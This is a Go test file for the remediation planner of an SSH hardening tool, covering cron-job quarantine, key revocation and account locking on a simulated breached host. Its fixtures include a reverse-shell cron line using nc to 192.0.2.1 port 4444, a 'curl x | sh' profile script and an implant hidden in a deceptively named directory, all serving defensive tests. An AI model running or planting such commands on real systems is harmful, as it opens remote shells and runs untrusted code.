package fix_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/postern-ssh/postern/audit/snapshot"
	"github.com/postern-ssh/postern/fix"
)

func TestParseJobRef(t *testing.T) {
	for text, want := range map[string]fix.JobRef{
		"web1:/etc/cron.d/update:3":            {Host: "web1", Path: "/etc/cron.d/update", Line: 3},
		"/var/spool/cron/crontabs/root:2":      {Path: "/var/spool/cron/crontabs/root", Line: 2},
		"/etc/cron.daily/x":                    {Path: "/etc/cron.daily/x"},
		"10.0.0.1:2222:/etc/crontab:17":        {Host: "10.0.0.1:2222", Path: "/etc/crontab", Line: 17},
		"[2001:db8::1]:2222:/etc/cron.d/a:b:9": {Host: "[2001:db8::1]:2222", Path: "/etc/cron.d/a:b", Line: 9},
	} {
		got, err := fix.ParseJobRef(text)
		if d := cmp.Diff(want, got); d != "" || err != nil {
			t.Errorf("%s: %v\n%s", text, err, d)
		}
		if got.String() != text {
			t.Errorf("%s is written %s", text, got)
		}
	}
	for _, text := range []string{"", "web1", "web1:3", ":/etc/crontab:1", "/", "/etc/../etc/crontab:1", "web1:/etc//crontab:1", "/etc/cron.d/a\x00:1"} {
		if got, err := fix.ParseJobRef(text); err == nil {
			t.Errorf("%q: %+v", text, got)
		}
	}
}

// breached is the story's host: an implant behind a deceptive name, a second job
// that is the owner's, bob's own table, and keys.
func breached() *world {
	w := newWorld()
	w.put("/var/spool/cron/crontabs/root", 'f', 0o600, 0, 105, "30 2 * * * /usr/local/sbin/job\n*/10 * * * * sh '/root/. ../update'\n")
	w.put("/root/. ..", 'd', 0o755, 0, 0, "").put("/root/. ../update", 'f', 0o755, 0, 0, "#!/bin/sh\n# implant\n")
	w.put("/var/spool/cron/crontabs/bob", 'f', 0o600, 1001, 105, "5 * * * * /home/bob/report\n")
	w.put("/home/bob/report", 'f', 0o755, 1001, 1001, "#!/bin/sh\n")
	w.put("/home/bob/.ssh/authorized_keys", 'f', 0o600, 1001, 1001, key("intruder")+"\n"+key("bob")+"\n")
	w.put("/root/.ssh/authorized_keys", 'f', 0o600, 0, 0, key("root")+"\n"+key("intruder")+"\n")
	w.outs[snapshot.OutTargets] = "/usr/local/sbin/job\x00/root/. ../update\x00/home/bob/report\x00"
	return w
}

// TestRuleOfTheJobStandsByTheTable: what the quarantine has done already counts for the
// rule about that job, and not as something that sshd's file mends.
func TestRuleOfTheJobStandsByTheTable(t *testing.T) {
	w := breached().breach(fix.Breach{Quarantine: []fix.JobRef{ref(t, "h:"+implant)}}, nil)
	w.in.Breach.Alone = false
	h := w.plan(t, "no-password-login", "deceptive-job-names")
	sshd, table := change(t, h, "/etc/ssh/sshd_config"), change(t, h, "/var/spool/cron/crontabs/root")
	if slices.Contains(sshd.Rules, "deceptive-job-names") || !slices.Contains(table.Rules, "deceptive-job-names") {
		t.Errorf("sshd_config for %q, the table for %q", sshd.Rules, table.Rules)
	}
}

const implant = "/var/spool/cron/crontabs/root:2"

func (w *world) breach(b fix.Breach, found *[]string) *world {
	b.Alone = true
	b.Found = func(what string) {
		if found != nil {
			*found = append(*found, what)
		}
	}
	w.in.Breach = &b
	return w
}

func ref(t *testing.T, s string) fix.JobRef {
	t.Helper()
	r, err := fix.ParseJobRef(s)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func paths(h fix.Host) (out []string) {
	for _, c := range h.Changes {
		out = append(out, string(c.Kind)+" "+c.Before.Path)
	}
	return out
}

func TestQuarantine(t *testing.T) {
	var found []string
	h := breached().breach(fix.Breach{Quarantine: []fix.JobRef{ref(t, "h:"+implant)}}, &found).plan(t)
	if d := cmp.Diff([]string{"table /var/spool/cron/crontabs/root", "move /root/. ../update"}, paths(h)); d != "" {
		t.Fatal(d + tell(h))
	}
	if d := cmp.Diff([]string{"h:" + implant}, found); d != "" {
		t.Error(d)
	}
	if got := string(change(t, h, "/var/spool/cron/crontabs/root").New); !strings.HasPrefix(got, "30 2 * * * /usr/local/sbin/job\n# postern 2026-11-23, quarantine: */10 * * * * sh") {
		t.Errorf("%s", got)
	}
	if c := change(t, h, "/root/. ../update"); c.After.Exists || c.Before.SHA256 == "" || c.Before.Mode != 0o755 {
		t.Errorf("%+v", c)
	}
	if len(h.Refused) != 1 || h.Refused[0].Risk != "running-job" || !strings.Contains(h.Refused[0].Why, "is not known") {
		t.Errorf("%+v", h.Refused)
	}
	text := tell(h)
	for _, want := range []string{"moved into the record", "--accept-risk=running-job", "to be changed elsewhere", "/etc/ssh/ssh_host_ed25519_key", "the passwords of root, bob"} {
		if !strings.Contains(text, want) {
			t.Errorf("the plan lacks %q\n%s", want, text)
		}
	}
	if strings.Contains(text, "stays where it is") {
		t.Error(text)
	}
}

func TestQuarantineCases(t *testing.T) {
	for _, tt := range []struct {
		name    string
		host    func(w *world)
		job     string
		changes string
		refused string // of the risk running-job; "" none
		says    string
	}{
		{"a tree runs nothing", func(w *world) {}, implant, "table,move", "", ""},
		{"a file that another job runs stays", func(w *world) {
			w.put("/var/spool/cron/crontabs/root", 'f', 0o600, 0, 105, "30 2 * * * '/root/. ../update' -k\n*/10 * * * * sh '/root/. ../update'\n")
		}, implant, "table", "is not known", "the job in /var/spool/cron/crontabs/root:1 runs it too"},
		{"the system's programs stay", func(w *world) {
			w.put("/var/spool/cron/crontabs/root", 'f', 0o600, 0, 105, "* * * * * /usr/bin/x\n").put("/usr/bin/x", 'f', 0o755, 0, 0, "x")
			w.outs[snapshot.OutTargets] += "/usr/bin/x\x00"
		}, "/var/spool/cron/crontabs/root:1", "table", "is not known", ""},
		{"a process whose executable is kept", func(w *world) {
			w.process(812, "/root/. ../update", "/root/. ../update\x00-d\x00", "")
		}, implant, "table,move", "", "process 812 still runs what"},
		{"a script's interpreter", func(w *world) {
			w.process(812, "/bin/dash", "sh\x00/root/. ../update", "")
		}, implant, "table,move", "", "process 812 still runs what"},
		{"a process whose executable is gone", func(w *world) {
			w.process(812, "/root/. ../update (deleted)", "update", "")
		}, implant, "table,move", "process 812, which the job /var/spool/cron/crontabs/root:2 started, still runs", "cp /proc/812/exe"},
		{"a process that hides behind its arguments", func(w *world) {
			w.process(812, "/dev/shm/.k (deleted)", "sh\x00/root/. ../update", "")
		}, implant, "table,move", "its executable /dev/shm/.k (deleted) is not kept", ""},
		{"all processes were seen, and none is the job's", func(w *world) {
			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 1, Exe: "/usr/lib/systemd/systemd"}, {PID: 812, Exe: "/usr/bin/dash", Args: []string{"sh", ". ../update"}, Dir: "/home"}}, true
		}, implant, "table,move", "", ""},
		{"a script by its name in the folder of its process", func(w *world) {
			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 812, Exe: "/usr/bin/dash", Args: []string{"sh", ". ../update"}, Dir: "/root"}}, true
		}, implant, "table,move", "", "process 812 still runs what"},
		{"a shell that was given the line", func(w *world) {
			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 812, Exe: "/dev/shm/sh", Deleted: true, Args: []string{"sh", "-c", "cd /; sh '/root/. ../update'"}}}, true
		}, implant, "table,move", "process 812, which the job", ""},
		{"a program of the system, with the job's words", func(w *world) {
			w.put("/var/spool/cron/crontabs/root", 'f', 0o600, 0, 105, "* * * * * nc -e /bin/sh 192.0.2.1 4444\n")
			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 7, Exe: "/usr/bin/nc.openbsd", Args: []string{"nc", "-l", "22"}}, {PID: 812, Exe: "/usr/bin/nc.openbsd", Args: []string{"nc", "-e", "/bin/sh", "192.0.2.1", "4444"}}}, true
		}, "/var/spool/cron/crontabs/root:1", "table", "", "process 812 still runs what"},
		{"a program that is gone and cannot be tied", func(w *world) {
			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 900, Exe: "/tmp/x", Deleted: true, Args: []string{"[kworker/0:1]"}}}, true
		}, implant, "table,move", "", "process 900 runs /tmp/x (deleted), a program that is gone"},
		{"another job stands there by now", func(w *world) {
			w.in.Breach.Quarantine[0].Command = "sh /elsewhere"
		}, implant, "", "", "holds another job by now"},
		{"no such job", func(w *world) {}, "/etc/cron.d/nosuch:1", "", "", "no such job was seen"},
		{"another host's job", func(w *world) {}, "other:" + implant, "", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := breached().breach(fix.Breach{Quarantine: []fix.JobRef{ref(t, tt.job)}}, nil)
			tt.host(w)
			w.tree = tt.name == "a tree runs nothing"
			h := w.plan(t)
			var kinds []string
			for _, c := range h.Changes {
				kinds = append(kinds, string(c.Kind))
			}
			if got := strings.Join(kinds, ","); got != tt.changes {
				t.Errorf("changes %s, want %s\n%s", got, tt.changes, tell(h))
			}
			var why string
			for _, r := range h.Refused {
				if r.Risk == "running-job" {
					why = r.Why
				}
			}
			if tt.refused == "" && why != "" || !strings.Contains(why, tt.refused) {
				t.Errorf("refused: %q, want %q", why, tt.refused)
			}
			if !strings.Contains(strings.Join(strings.Fields(tell(h)), " "), tt.says) {
				t.Errorf("it does not say %q\n%s", tt.says, tell(h))
			}
		})
	}
}

func TestQuarantineFile(t *testing.T) {
	var found []string
	w := breached().put("/etc/profile.d/zz.sh", 'f', 0o644, 0, 0, "curl x | sh\n").put("/usr/bin/ls", 'f', 0o755, 0, 0, "x")
	h := w.breach(fix.Breach{Files: []string{"/etc/profile.d/zz.sh", "/usr/bin/ls", "/etc/nosuch"}, ByHand: []string{"unit x.service: systemctl disable --now x.service"}}, &found).plan(t)
	if d := cmp.Diff([]string{"move /etc/profile.d/zz.sh"}, paths(h)); d != "" {
		t.Fatal(d + tell(h))
	}
	text := strings.Join(strings.Fields(tell(h)), " ")
	for _, want := range []string{"install the package anew", "/etc/nosuch stays where it is", "systemctl disable --now x.service"} {
		if !strings.Contains(text, want) {
			t.Errorf("the plan lacks %q\n%s", want, tell(h))
		}
	}
	if d := cmp.Diff([]string{"/etc/profile.d/zz.sh", "/usr/bin/ls", "/etc/nosuch"}, found); d != "" {
		t.Error(d)
	}
}

func TestRevokeKey(t *testing.T) {
	var found []string
	h := breached().breach(fix.Breach{Revoke: []string{fingerprint("intruder"), fingerprint("nobody")}}, &found).plan(t)
	if d := cmp.Diff([]string{"keys /root/.ssh/authorized_keys", "keys /home/bob/.ssh/authorized_keys"}, paths(h)); d != "" {
		t.Fatal(d + tell(h))
	}
	if d := cmp.Diff([]string{fingerprint("intruder")}, found); d != "" {
		t.Error(d)
	}
	for file, want := range map[string]string{
		"/root/.ssh/authorized_keys":     key("root") + "\n# postern 2026-11-23, revoked: " + key("intruder") + "\n",
		"/home/bob/.ssh/authorized_keys": "# postern 2026-11-23, revoked: " + key("intruder") + "\n" + key("bob") + "\n",
	} {
		if d := cmp.Diff(want, string(change(t, h, file).New)); d != "" {
			t.Errorf("%s\n%s", file, d)
		}
	}
	if c := change(t, h, "/home/bob/.ssh/authorized_keys"); c.User != "bob" {
		t.Errorf("it would be changed with the rights of %q", c.User)
	}
	if len(h.Refused) != 0 {
		t.Errorf("%+v", h.Refused)
	}
	// Our own key is a lock-out.
	h = breached().breach(fix.Breach{Revoke: []string{fingerprint("alice")}}, nil).plan(t)
	if len(h.Refused) == 0 || h.Refused[0].Risk != "lock-out" {
		t.Errorf("the key that we came by: %+v", h.Refused)
	}
	// It is said where it is known which key that is.
	w := breached().breach(fix.Breach{Revoke: []string{fingerprint("alice")}}, nil)
	w.in.OwnKeys = []string{fingerprint("alice")}
	h = w.plan(t)
	if len(h.Refused) == 0 || !strings.Contains(h.Refused[0].Why, "by "+fingerprint("alice")+", which this plan revokes") || !strings.Contains(h.Refused[0].WayOut, "another key") {
		t.Errorf("the key that we came by, by name: %+v", h.Refused)
	}
}

func TestLockAccount(t *testing.T) {
	var found []string
	h := breached().breach(fix.Breach{Lock: []string{"bob", "root", "nobody-here"}}, &found).plan(t)
	if d := cmp.Diff([]string{"account /etc/shadow"}, paths(h)); d != "" {
		t.Fatal(d + tell(h))
	}
	if d := cmp.Diff([]string{"bob", "root"}, found); d != "" {
		t.Error(d)
	}
	text := strings.Join(strings.Fields(tell(h)), " ")
	for _, want := range []string{"account bob: password locked, over since 1970-01-02", "usermod -L -e 1 bob",
		"/var/spool/cron/crontabs/bob:1 (/home/bob/report)", "the last login in the log is by password from 192.0.2.7", "loginctl terminate-user bob",
		"- bob by publickey", "- bob by password", "root: expiring it would end cron"} {
		if !strings.Contains(text, want) {
			t.Errorf("the plan lacks %q\n%s", want, tell(h))
		}
	}
	// Names that a stranger tries are no logins.
	fake := breached().breach(fix.Breach{Lock: []string{"bob"}}, nil)
	fake.outs[snapshot.OutSshdLog] += "2026-11-30T08:00:00+0000 h sshd[1]: Failed password for invalid user x: Accepted password for bob from 203.0.113.9 port 1 ssh2\n"
	if text := tell(fake.plan(t)); strings.Contains(text, "203.0.113.9") {
		t.Error(text)
	}
	if slices.ContainsFunc(h.Rests, func(s fix.State) bool { return s.Path == "/etc/shadow" }) {
		t.Error("it stands on the whole of /etc/shadow: anybody's new password would make it void")
	}
	// One's own account is a lock-out.
	h = breached().breach(fix.Breach{Lock: []string{"alice"}}, nil).plan(t)
	if len(h.Refused) == 0 || h.Refused[0].Risk != "lock-out" {
		t.Errorf("the account that we came by: %+v", h.Refused)
	}
	// One that has ended already needs nothing.
	w := breached().breach(fix.Breach{Lock: []string{"bob"}}, nil)
	w.outs[snapshot.OutShadow] = strings.Replace(w.outs[snapshot.OutShadow], "bob:hash:yescrypt:20000:0:99999:7::", "bob:locked-hash:yescrypt:20000:0:99999:7::1", 1)
	if h = w.plan(t); len(h.Changes) != 0 {
		t.Error(tell(h))
	}
}

func TestOpening(t *testing.T) {
	h := fix.Host{Name: "web1", Elsewhere: []fix.Elsewhere{{Kind: "private-key", Fingerprint: "SHA256:a"}, {Kind: "password"}}}
	h.Opening(map[string][]string{"SHA256:a": {"root on web2", "alice on db", "root on web2", "alice on web1"}, "": {"x on y"}})
	if d := cmp.Diff([]string{"alice on db", "root on web2"}, h.Elsewhere[0].Opens); d != "" || h.Elsewhere[1].Opens != nil {
		t.Error(d, h.Elsewhere[1])
	}
}

// A script of run-parts is its job and what the job runs: it goes once, and is not
// left to anybody.
func TestQuarantineScript(t *testing.T) {
	w := breached().put("/etc/cron.daily/zz", 'f', 0o755, 0, 0, "#!/bin/sh\ntrue\n")
	w.outs[snapshot.OutTargets] += "/etc/cron.daily/zz\x00"
	h := w.breach(fix.Breach{Quarantine: []fix.JobRef{ref(t, "/etc/cron.daily/zz")}}, nil).plan(t)
	if len(h.Changes) != 1 || h.Changes[0].Kind != fix.KindMove || len(h.Unfixed) != 0 || strings.Contains(h.Changes[0].Why, "none") {
		t.Error(tell(h))
	}
	// What it started is no risk: its script is kept.
	w.process(812, "/bin/dash", "/bin/sh\x00/etc/cron.daily/zz", "")
	if h := w.plan(t); strings.Contains(tell(h), "812, which the job") || !strings.Contains(tell(h), "process 812 still runs what") {
		t.Error(tell(h))
	}
}
